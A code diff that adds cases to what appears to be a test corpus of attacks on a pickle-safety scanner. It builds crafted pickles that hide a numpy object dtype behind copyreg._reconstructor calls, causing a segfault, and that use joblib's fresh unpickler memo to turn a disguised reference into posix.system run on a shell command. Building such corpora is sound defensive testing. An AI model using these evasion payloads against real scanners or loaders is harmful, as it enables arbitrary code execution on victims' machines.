@@ -679,6 +679,56 @@ def _octal_itemsize_dtype(m: str) -> bytes:
     return _Asm(0).push(_dtype("V7777777", state)).stop().value()
 
 
+_TUPLE = _g("builtins", "tuple")
+
+
+def _hidden(cls: tuple[str, str], base: tuple[str, str], state: object) -> _Code:
+    """``copyreg._reconstructor(*T)`` where ``T = copyreg._reconstructor(tuple, tuple, (cls,
+    base, state))`` is the tuple ``(cls, base, state)`` made by a call (the issue's
+    ``builtins.tuple([...])`` spelling, with the call a literal tuple needs no list for): so
+    ``base.__new__(cls, state)`` with an argument tuple that a pass which only knows literal
+    calls cannot see into."""
+    return _Code(
+        lambda a: (
+            a.name("copyreg", "_reconstructor")
+            .call("copyreg", "_reconstructor", _TUPLE, _TUPLE, (_g(*cls), _g(*base), state))
+            .reduce()
+        )
+    )
+
+
+def _hidden_dtype_object_array(m: str) -> bytes:
+    """An object array of shape (200000,) with an empty item list, whose dtype ``O`` is made by
+    ``copyreg._reconstructor(*tuple([numpy.dtype, numpy.dtype, "O"]))``: a pass that only
+    recognises a literal ``numpy.dtype(...)`` call skips the object-array check, and numpy
+    reads 200,000 pointers that were never written."""
+    dtype = _hidden(("numpy", "dtype"), ("numpy", "dtype"), "O")
+    return _Asm(2).push(_ndarray(dtype, (200_000,), [])).stop().value()
+
+
+def _hidden_joblib_wrapper(m: str) -> bytes:
+    """joblib's NumpyArrayWrapper made by ``copyreg._reconstructor(*tuple([...]))``. joblib
+    treats it as an array header and reads the object array that follows with a fresh
+    unpickler (its own memo); a pass that does not recognise the wrapper keeps reading those
+    bytes as part of the outer stream, where ``BINGET 0, BINGET 1`` are ``numpy``, ``dtype``.
+    In joblib's fresh memo they are ``posix``, ``system``."""
+    a = _Asm(4).push("numpy").memoize().push("dtype").memoize().op(b"\x93").pop()
+    wrapper = _hidden(("joblib.numpy_pickle", "NumpyArrayWrapper"), ("builtins", "object"), None)
+    a.mark().push(wrapper)
+    dt = _dtype("O8", (3, "|", None, None, None, -1, -1, 63))
+    state = {
+        "shape": (1,),
+        "order": "C",
+        "dtype": dt,
+        "allow_mmap": False,
+    }
+    a.push(state).build()
+    # the nested pickle as joblib reads it; to the outer stream, more of the same tuple
+    a.push("posix").memoize().pop().push("system").memoize().pop()
+    a.binget(0).binget(1).op(b"\x93").push((_sh(m),)).reduce()
+    return a.op(b"t").stop().value()
+
+
 def _memo_dag_shape(m: str, steps: int = 27) -> bytes:
     """``T0 = (1,)``, ``Tk = (Tk-1, Tk-1)`` through the memo, ``T27`` as an array's shape: a few
     hundred bytes that a fold without memoisation expands into 2**28 tuples."""
@@ -1713,6 +1763,28 @@ def attack_corpus() -> list[AttackCase]:
             _M,
             plain="none",
             executes=False,
+        ),
+        case(
+            "numpy-dtype-hidden-behind-call",
+            "object ndarray state with shape (200000,) and no items whose dtype 'O' comes from "
+            "copyreg._reconstructor(*<tuple made by a call>): not recognised as a dtype, the "
+            "object-array check never ran (load_unsigned segfaulted; plain pickle does too)",
+            "ATTACKS.md: parser differentials inside the defender (values produced by calls)",
+            _hidden_dtype_object_array,
+            _M,
+            plain="none",
+            executes=False,
+        ),
+        case(
+            "joblib-wrapper-hidden-behind-call",
+            "joblib NumpyArrayWrapper made by copyreg._reconstructor(*<tuple made by a call>): "
+            "joblib reads the object array after it with a fresh memo, where BINGET 0/1 are "
+            "posix/system; a pass that misses the wrapper resolves numpy.dtype",
+            "ATTACKS.md: parser differentials inside the defender (joblib's fresh unpickler)",
+            _hidden_joblib_wrapper,
+            _M,
+            container="joblib",
+            plain="joblib",
         ),
         case(
             "memo-dag-constant-folding",
